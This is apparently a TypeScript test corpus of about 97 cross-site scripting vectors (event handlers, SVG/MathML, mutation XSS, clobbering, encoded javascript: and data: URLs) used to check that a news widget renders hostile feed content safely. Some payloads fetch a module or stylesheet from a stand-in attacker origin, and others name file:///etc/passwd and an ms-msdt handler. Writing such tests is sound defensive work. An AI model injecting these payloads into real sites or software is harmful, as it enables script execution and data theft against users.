// Hostile strings that another agency's endpoint could send. Every vector is
// fed through every element, in every format that can carry it (see
// formats.ts), as plain text (titles, summaries, captions, names, groups,
// categories), as a URL (links, images, logos, "Quay lại" / "Xem tiếp") and
// inside an article body.
//
// A payload that ran would call alert/confirm/prompt with its number, or set
// `window.__xss` (or `parent.__xss`) to it, or request a file under `EVIL`
// (another origin of the test server, so the request really happens and
// shows up in the resource timeline). `{{EVIL}}` is replaced at run time.

export type VectorGroup = 'markup' | 'svg-mathml' | 'mutation' | 'breakout' | 'clobbering' | 'entities' | 'url';

export interface Vector {
  id: number;
  group: VectorGroup;
  /** What the vector tries. */
  note: string;
  payload: string;
  /**
   * What a plain-text field of a JSON document, an RSS CDATA section or a
   * links document shows: the payload, with the character references that
   * feeds put in titles decoded (unknown named ones stay as written).
   * Defaults to the payload. White space is compared folded.
   */
  text?: string;
}

type Row = [VectorGroup, string, string, string?];

const rows: Row[] = [
  // Tags and event handlers
  ['markup', 'script element', '<script>window.__xss=1</script>'],
  ['markup', 'img onerror', '<img src=x onerror="window.__xss=2">'],
  ['markup', 'body onload', '<body onload="window.__xss=3">'],
  ['markup', 'details ontoggle, no interaction needed', '<details open ontoggle="window.__xss=4"><summary>x</summary></details>'],
  ['markup', 'autofocus onfocus', '<input autofocus onfocus="window.__xss=5">'],
  ['markup', 'video source onerror', '<video><source onerror="window.__xss=6"></video>'],
  ['markup', 'iframe javascript: src', '<iframe src="javascript:parent.__xss=7"></iframe>'],
  ['markup', 'iframe srcdoc', '<iframe srcdoc="<script>parent.__xss=8</script>"></iframe>'],
  ['markup', 'object data', '<object data="javascript:window.__xss=9"></object>'],
  ['markup', 'embed src', '<embed src="javascript:window.__xss=10">'],
  ['markup', 'a javascript: href', '<a href="javascript:window.__xss=11">bấm vào đây</a>'],
  [
    'markup',
    'form action and formaction',
    '<form action="javascript:window.__xss=12"><button formaction="javascript:window.__xss=12">Gửi</button></form>',
  ],
  ['markup', 'meta refresh to javascript:', '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=13">'],
  ['markup', 'base href hijacks relative URLs', '<base href="{{EVIL}}/base/"><a href="tin.html">tin</a>'],
  ['markup', 'stylesheet link', '<link rel="stylesheet" href="{{EVIL}}/link.css">'],
  [
    'markup',
    'style element with @import and url()',
    "<style>@import '{{EVIL}}/import.css'; p { background: url({{EVIL}}/bg.png) }</style>",
  ],
  ['markup', 'style attribute with url()', '<div style="background-image:url({{EVIL}}/style-attr.png)">nền</div>'],
  ['markup', 'mixed case handler', '<IMG SRC=x OnErRoR=window.__xss=18>'],
  ['markup', 'slash as attribute separator', '<img/src=x/onerror=window.__xss=19>'],
  ['markup', 'handler calling a dialog through a unicode escape', '<img src=x onerror=\\u0061lert(20)>'],
  ['markup', 'handler importing a module', `<img src=x onerror="import('{{EVIL}}/import.js')">`],
  ['markup', 'marquee onstart', '<marquee onstart="confirm(22)">chạy chữ</marquee>'],
  ['markup', 'custom tag with autofocus handler', '<xss-tag tabindex=1 autofocus onfocus="prompt(23)">x</xss-tag>'],
  [
    'markup',
    'popover beforetoggle',
    '<button popovertarget=p>mở</button><div popover id=p onbeforetoggle="window.__xss=24">p</div>',
  ],
  ['markup', 'table background javascript:', '<table background="javascript:window.__xss=25"><tr><td>ô</td></tr></table>'],
  ['markup', 'legacy isindex', '<isindex type=image src=1 onerror=alert(26)>'],
  ['markup', 'contenteditable onblur', '<p contenteditable onblur="alert(27)">sửa</p>'],
  ['markup', 'a ping and target=_top', '<a href="https://portal.example/tin" target="_top" ping="{{EVIL}}/ping">tin</a>'],
  ['markup', 'srcset with javascript:', '<img srcset="javascript:window.__xss=29 1x" alt="">'],
  ['markup', 'picture source srcset', '<picture><source srcset="javascript:window.__xss=30"><img src=x alt=""></picture>'],
  [
    'markup',
    'declarative shadow root',
    '<div><template shadowrootmode="open"><img src=x onerror="window.__xss=31"></template></div>',
  ],

  // SVG and MathML
  ['svg-mathml', 'svg onload', '<svg onload="window.__xss=32">'],
  ['svg-mathml', 'script inside svg', '<svg><script>window.__xss=33</script></svg>'],
  ['svg-mathml', 'svg animate onbegin', '<svg><animate onbegin="window.__xss=34" attributeName="x" dur="1s"></animate></svg>'],
  ['svg-mathml', 'svg a xlink:href', '<svg><a xlink:href="javascript:window.__xss=35"><text x="0" y="20">bấm</text></a></svg>'],
  [
    'svg-mathml',
    'svg set turns href into javascript:',
    '<svg><a><set attributeName="href" to="javascript:window.__xss=36"></set><text y="20">x</text></a></svg>',
  ],
  [
    'svg-mathml',
    'svg use pointing at a data: document',
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='window.__xss=37'/></svg>#x"></use></svg>`,
  ],
  [
    'svg-mathml',
    'foreignObject with iframe',
    '<svg><foreignObject><iframe srcdoc="<script>parent.__xss=38</script>"></iframe></foreignObject></svg>',
  ],
  ['svg-mathml', 'MathML href', '<math href="javascript:window.__xss=39"><mi>x</mi></math>'],
  [
    'svg-mathml',
    'MathML maction xlink:href',
    '<math><maction actiontype="statusline" xlink:href="javascript:window.__xss=40">bấm</maction></math>',
  ],
  ['svg-mathml', 'svg image onerror', '<svg><image href="x" onerror="window.__xss=41"></image></svg>'],

  // Parser differentials (mutation XSS)
  [
    'mutation',
    'math/mglyph/style namespace confusion',
    '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=42">',
  ],
  ['mutation', 'form/math nesting', '<form><math><mtext></form><form><mglyph><style></math><img src onerror="window.__xss=43">'],
  ['mutation', 'noscript attribute', '<noscript><p title="</noscript><img src=x onerror=window.__xss=44>">'],
  ['mutation', 'svg style raw text', '<svg><style><img src=x onerror="window.__xss=45"></style></svg>'],
  ['mutation', 'svg p ends foreign content', '<svg><p><style><img src=x onerror=window.__xss=46>'],
  ['mutation', 'comment containing a tag', '<!--<img src="--><img src=x onerror=window.__xss=47//">'],
  ['mutation', 'nested script tags', '<scr<script>ipt>window.__xss=48</scr</script>ipt>'],
  [
    'mutation',
    'template holding a script',
    '<template><script>window.__xss=49</script><img src=x onerror=window.__xss=49></template>',
  ],
  ['mutation', 'select/template', '<select><template><style><img src=x onerror="window.__xss=50"></style></template></select>'],

  // Breaking out of the context the payload is embedded in
  ['breakout', 'attribute breakout', '"><script>window.__xss=51</script>'],
  ['breakout', 'single-quoted attribute breakout', "'><img src=x onerror=window.__xss=52>"],
  ['breakout', 'comment breakout', '--><script>window.__xss=53</script>'],
  ['breakout', 'title element breakout', '</title><script>window.__xss=54</script>'],
  ['breakout', 'CDATA breakout', ']]><script>window.__xss=55</script>'],
  ['breakout', 'textarea breakout', '</textarea><img src=x onerror=window.__xss=56>'],
  ['breakout', 'template-engine expression', "{{constructor.constructor('window.__xss=57')()}}"],
  ['breakout', 'template-literal expression', '${window.__xss=58}'],

  // DOM clobbering: names that shadow document and prototype properties
  [
    'clobbering',
    'form id=location, img name=getElementById',
    '<form id="location"><input name="href"></form><img name="getElementById" src=x>',
  ],
  ['clobbering', 'ids named after prototype keys', '<a id="__proto__"></a><img name="__proto__"><a id="constructor"></a>'],
  ['clobbering', 'form clobbering attributes', '<form id="attributes"><input name="attributes"><input id="nodeName"></form>'],
  ['clobbering', 'cookie and body names', '<img name="cookie"><img name="body"><form name="forms"></form>'],
  ['clobbering', 'iframe named like the alarm flag', '<iframe name="__xss"></iframe><embed name="__xss">'],
  ['clobbering', 'plain prototype key as a name', '__proto__'],
  ['clobbering', 'another prototype key', 'constructor'],
  ['clobbering', 'a prototype method name', 'hasOwnProperty'],
  ['clobbering', 'prototype keys as character references', '&constructor; &toString; &hasOwnProperty; &valueOf;'],

  // Character references in text
  [
    'entities',
    'escaped script, decoded as text',
    '&lt;script&gt;window.__xss=68&lt;/script&gt;',
    '<script>window.__xss=68</script>',
  ],
  [
    'entities',
    'hex references forming a tag',
    '&#x3C;img src=x onerror=window.__xss=69&#x3E;',
    '<img src=x onerror=window.__xss=69>',
  ],
  ['entities', 'decimal references without semicolons', '&#60;svg onload=alert(70)&#62', '<svg onload=alert(70)>'],
  ['entities', 'double-escaped markup stays one level escaped', '&amp;lt;b&amp;gt;x&amp;lt;/b&amp;gt;', '&lt;b&gt;x&lt;/b&gt;'],
  ['entities', 'bidi override and zero-width characters', 'Tin\u202egnp.exe\u200b\u200d'],
  ['entities', 'control characters', 'Tiêu đề\u0007\u001b[31m đỏ\u0008'],
  ['entities', 'NUL inside a tag name', '<scr\u0000ipt>window.__xss=74</scr\u0000ipt>'],

  // URLs
  ['url', 'javascript:', 'javascript:window.__xss=75'],
  ['url', 'mixed-case scheme', 'JaVaScRiPt:window.__xss=76'],
  ['url', 'leading white space', ' \t\n javascript:window.__xss=77'],
  ['url', 'tab inside the scheme', 'java\tscript:window.__xss=78'],
  ['url', 'newline inside the scheme', 'java\nscript:window.__xss=79'],
  ['url', 'leading C0 controls', '\u0001\u0002javascript:window.__xss=80'],
  ['url', 'decimal reference for the first letter', '&#106;avascript:window.__xss=81', 'javascript:window.__xss=81'],
  [
    'url',
    'every letter as a hex reference',
    '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;window.__xss=82',
    'javascript:window.__xss=82',
  ],
  [
    'url',
    'zero-padded decimal references without semicolons',
    '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058window.__xss=83',
    'javascript:window.__xss=83',
  ],
  // Every HTML5 name is read, as the HTML parser reads it: shown as text, never as a link.
  ['url', 'HTML5 named reference for the colon', 'javascript&colon;window.__xss=84', 'javascript:window.__xss=84'],
  ['url', 'named reference for a tab', 'java&Tab;script:window.__xss=85', 'java\tscript:window.__xss=85'],
  ['url', 'hex reference for a tab', 'jav&#x09;ascript:window.__xss=86', 'jav\tascript:window.__xss=86'],
  ['url', 'percent-encoded code', 'javascript:%77indow.__xss=87'],
  ['url', 'comment-and-newline trick', 'javascript://portal.example/%0Awindow.__xss=88'],
  ['url', 'data: HTML', 'data:text/html,<script>parent.__xss=89</script>'],
  ['url', 'data: HTML in base64', 'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9OTA8L3NjcmlwdD4='],
  ['url', 'data: SVG with onload', 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="parent.__xss=91"/>'],
  ['url', 'vbscript:', 'vbscript:msgbox(92)'],
  ['url', 'mixed-case vbscript:', 'VBScript:MsgBox(93)'],
  ['url', 'file:', 'file:///etc/passwd'],
  ['url', 'an OS protocol handler', 'ms-msdt:/id PCWDiagnostic /skip force'],
  ['url', 'attribute breakout inside a URL', 'https://portal.example/tin"onmouseover="window.__xss=96'],
  ['url', 'backslashes instead of slashes', '\\\\portal.example\\tin\\97'],
];

export const VECTORS: Vector[] = rows.map(([group, note, payload, text], index) => ({
  id: index + 1,
  group,
  note,
  payload,
  ...(text !== undefined && { text }),
}));

/** The corpus with `{{EVIL}}` pointing at `evil` (an origin the widgets must never request). */
export function corpus(evil: string): Vector[] {
  return VECTORS.map((vector) => ({
    ...vector,
    payload: vector.payload.replaceAll('{{EVIL}}', evil),
    ...(vector.text !== undefined && { text: vector.text.replaceAll('{{EVIL}}', evil) }),
  }));
}
